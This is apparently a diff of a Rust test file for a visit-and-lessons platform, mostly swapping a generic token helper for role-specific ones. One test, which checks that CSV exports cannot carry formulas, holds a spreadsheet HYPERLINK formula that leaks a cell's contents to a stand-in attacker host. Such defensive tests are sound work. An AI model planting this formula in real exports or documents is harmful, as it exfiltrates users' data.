@@ -3,7 +3,6 @@
 
 use chrono::Duration;
 use meeloop::db::outbox::Claimed;
-use meeloop::domain::account::Role;
 use meeloop::domain::visit::VisitState;
 use meeloop::service::visits::VisitView;
 use serde_json::json;
@@ -84,9 +83,7 @@ fn complete_form() -> Vec<(String, String)> {
 
 async fn a_held_visit_sends_both_forms_and_each_side_answers_once(backend: Backend) {
     let app = demo_app(backend).await;
-    let host = app
-        .token_for("piet@zwolle.example", Role::Coordinator, Some("GM0193"))
-        .await;
+    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
     let visit = held_visit(&app, &host).await;
     assert_eq!(visit_row(&app, visit.id).state, VisitState::Completed);
 
@@ -176,11 +173,9 @@ async fn a_held_visit_sends_both_forms_and_each_side_answers_once(backend: Backe
         "recommend": true,
     });
     let outsider = app
-        .token_for("kees@amsterdam.example", Role::Coordinator, Some("GM0363"))
+        .coordinator_token("kees@amsterdam.example", "GM0363")
         .await;
-    let admin = app
-        .token_for("beheer@meeloop.example", Role::Admin, None)
-        .await;
+    let admin = app.admin_token("beheer@meeloop.example").await;
     for (token, status) in [(&outsider, 404), (&admin, 403)] {
         let (got, problem) = app
             .send(
@@ -245,9 +240,7 @@ async fn a_held_visit_sends_both_forms_and_each_side_answers_once(backend: Backe
 
 async fn the_form_keeps_what_was_typed_and_names_every_problem(backend: Backend) {
     let app = demo_app(backend).await;
-    let host = app
-        .token_for("piet@zwolle.example", Role::Coordinator, Some("GM0193"))
-        .await;
+    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
     let visit = held_visit(&app, &host).await;
     let link = link_in(keyed(&queued(&app), &format!("lessons:{}:requester", visit.id)).unwrap());
 
@@ -308,15 +301,9 @@ async fn the_form_keeps_what_was_typed_and_names_every_problem(backend: Backend)
 
 async fn the_forms_reminder_goes_once_and_only_to_the_side_that_did_not_answer(backend: Backend) {
     let app = demo_app(backend).await;
-    let host = app
-        .token_for("piet@zwolle.example", Role::Coordinator, Some("GM0193"))
-        .await;
+    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
     let anne_token = app
-        .token_for(
-            "anne2@sudwestfryslan.example",
-            Role::Coordinator,
-            Some("GM1900"),
-        )
+        .coordinator_token("anne2@sudwestfryslan.example", "GM1900")
         .await;
     let visit = held_visit(&app, &host).await;
     let completed = visit_row(&app, visit.id).completed_at.unwrap();
@@ -409,15 +396,9 @@ async fn zwolle_in_matches(app: &TestApp, token: &str) -> serde_json::Value {
 
 async fn a_visitors_rating_moves_the_hosts_proven_quality(backend: Backend) {
     let app = demo_app(backend).await;
-    let host = app
-        .token_for("piet@zwolle.example", Role::Coordinator, Some("GM0193"))
-        .await;
+    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
     let anne_token = app
-        .token_for(
-            "anne2@sudwestfryslan.example",
-            Role::Coordinator,
-            Some("GM1900"),
-        )
+        .coordinator_token("anne2@sudwestfryslan.example", "GM1900")
         .await;
     let visit = held_visit(&app, &host).await;
     let before = zwolle_in_matches(&app, &anne_token).await;
@@ -475,15 +456,9 @@ async fn a_visitors_rating_moves_the_hosts_proven_quality(backend: Backend) {
 
 async fn the_knowledge_base_shows_published_lessons_only_and_finds_them_by_word(backend: Backend) {
     let app = demo_app(backend).await;
-    let host = app
-        .token_for("piet@zwolle.example", Role::Coordinator, Some("GM0193"))
-        .await;
+    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
     let anne_token = app
-        .token_for(
-            "anne2@sudwestfryslan.example",
-            Role::Coordinator,
-            Some("GM1900"),
-        )
+        .coordinator_token("anne2@sudwestfryslan.example", "GM1900")
         .await;
     let visit = held_visit(&app, &host).await;
     let path = format!("/api/v1/visits/{}/lessons", visit.id);
@@ -623,15 +598,9 @@ async fn the_knowledge_base_shows_published_lessons_only_and_finds_them_by_word(
 /// whoever opens the knowledge base in a spreadsheet sees text.
 async fn csv_exports_cannot_carry_formulas(backend: Backend) {
     let app = demo_app(backend).await;
-    let host = app
-        .token_for("piet@zwolle.example", Role::Coordinator, Some("GM0193"))
-        .await;
+    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
     let anne = app
-        .token_for(
-            "anne2@sudwestfryslan.example",
-            Role::Coordinator,
-            Some("GM1900"),
-        )
+        .coordinator_token("anne2@sudwestfryslan.example", "GM1900")
         .await;
     let visit = held_visit(&app, &host).await;
     let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")"#;
@@ -729,11 +698,7 @@ async fn the_demo_starts_with_held_visits_and_published_lessons(backend: Backend
     assert!(items.iter().all(|l| l["topic"] == "cloud-migration"));
     // Zwolle's two visitors rated it 5 and 4 in the last weeks.
     let anne = app
-        .token_for(
-            "anne@sudwestfryslan.example",
-            Role::Coordinator,
-            Some("GM1900"),
-        )
+        .coordinator_token("anne@sudwestfryslan.example", "GM1900")
         .await;
     let zwolle = zwolle_in_matches(&app, &anne).await;
     assert_eq!(zwolle["publishedLessons"], 2);
@@ -870,9 +835,7 @@ async fn kb(app: &TestApp, query: &str, token: &str) -> (u16, serde_json::Value)
 
 async fn three_months_on_the_requester_is_asked_what_came_of_it(backend: Backend) {
     let app = demo_app(backend).await;
-    let host = app
-        .token_for("piet@zwolle.example", Role::Coordinator, Some("GM0193"))
-        .await;
+    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
     let visit = held_visit(&app, &host).await;
     let day = visit.proposed_dates[0];
     let due = day.checked_add_months(chrono::Months::new(3)).unwrap();
